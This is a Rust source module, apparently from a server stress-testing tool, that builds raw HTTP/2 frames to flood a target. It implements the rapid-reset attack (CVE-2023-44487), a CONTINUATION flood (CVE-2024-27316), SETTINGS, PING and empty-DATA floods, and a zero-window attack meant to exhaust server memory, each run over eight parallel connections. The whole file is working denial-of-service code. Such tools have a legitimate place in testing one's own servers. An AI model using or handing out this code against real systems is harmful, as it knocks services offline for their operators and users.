//! Attacks on HTTP/2, frame by frame (RFC 9113).

use std::io::{Read as _, Write as _};

use anyhow::Result;

use super::Running;
use super::site::{Connection, Site};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `GET / https localhost`, by the static table and one literal.
const REQUEST: &[u8] = b"\x82\x87\x84\x41\x09localhost";
/// `GET /sd/many https localhost`.
const LIST: &[u8] = b"\x82\x87\x41\x09localhost\x04\x08/sd/many";
/// `POST / https localhost`.
const POST: &[u8] = b"\x83\x87\x84\x41\x09localhost";
/// Connections at one time.
const CONNECTIONS: usize = 8;
/// Frames that are sent at once.
const BATCH: u64 = 256;

fn frame(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).expect("a frame is small");
    into.extend(&length.to_be_bytes()[1..]);
    into.extend([kind, flags]);
    into.extend(stream.to_be_bytes());
    into.extend(payload);
}

/// Opens connections, and sends batches that `fill` makes of the number of the batch until the server
/// closes the connection.
fn flood(site: &Site, running: &Running, settings: &[u8], fill: impl Fn(u64, &mut Vec<u8>) + Sync) {
    running.on_threads(CONNECTIONS, |running| {
        let mut connection = open(site, settings)?;
        let mut bytes = Vec::new();
        for number in 0.. {
            bytes.clear();
            fill(number, &mut bytes);
            if running.is_over() || connection.write_all(&bytes).is_err() {
                break;
            }
            running.count(BATCH);
        }
        // A GOAWAY, or nothing.
        let _ = connection.read(&mut [0; 1024]);
        Ok(())
    });
}

fn open(site: &Site, settings: &[u8]) -> Result<Box<dyn Connection>> {
    let mut connection = site.connect_http2()?;
    let mut bytes = PREFACE.to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, settings);
    connection.write_all(&bytes)?;
    Ok(connection)
}

/// The stream of a client's request.
fn stream(batch: u64, index: u64) -> u32 {
    u32::try_from((batch * BATCH + index) * 2 + 1).unwrap_or(1)
}

/// CVE-2023-44487.
pub(super) fn rapid_reset(site: &Site, running: &Running) {
    flood(site, running, &[], |batch, bytes| {
        for index in 0..BATCH {
            let stream = stream(batch, index);
            frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
            frame(bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        }
    });
}

/// CVE-2024-27316 and others.
pub(super) fn continuations(site: &Site, running: &Running) {
    // A literal header that is not indexed: `x: y`.
    let header = b"\x00\x01x\x01y".repeat(100);
    flood(site, running, &[], |batch, bytes| {
        if batch == 0 {
            frame(bytes, HEADERS, END_STREAM, 1, REQUEST);
        }
        for _ in 0..BATCH {
            frame(bytes, CONTINUATION, 0, 1, &header);
        }
    });
}

pub(super) fn settings(site: &Site, running: &Running) {
    // Another size of the header table each time.
    flood(site, running, &[], |batch, bytes| {
        for index in 0..BATCH {
            let entries = u32::try_from((batch + index) % 4096).expect("it is small");
            let mut setting = vec![0, 1];
            setting.extend(entries.to_be_bytes());
            frame(bytes, SETTINGS, 0, 0, &setting);
        }
    });
}

pub(super) fn pings(site: &Site, running: &Running) {
    flood(site, running, &[], |_, bytes| {
        for index in 0..BATCH {
            frame(bytes, PING, 0, 0, &index.to_be_bytes());
        }
    });
}

pub(super) fn empty_data(site: &Site, running: &Running) {
    flood(site, running, &[], |batch, bytes| {
        if batch == 0 {
            frame(bytes, HEADERS, END_HEADERS, 1, POST);
        }
        for _ in 0..BATCH {
            frame(bytes, DATA, 0, 1, &[]);
        }
    });
}

/// Every answer waits in the memory of the server for a window that never opens.
pub(super) fn no_window(site: &Site, running: &Running) {
    // SETTINGS_INITIAL_WINDOW_SIZE = 0.
    flood(site, running, &[0, 4, 0, 0, 0, 0], |batch, bytes| {
        for index in 0..BATCH {
            frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream(batch, index), LIST);
        }
    });
}
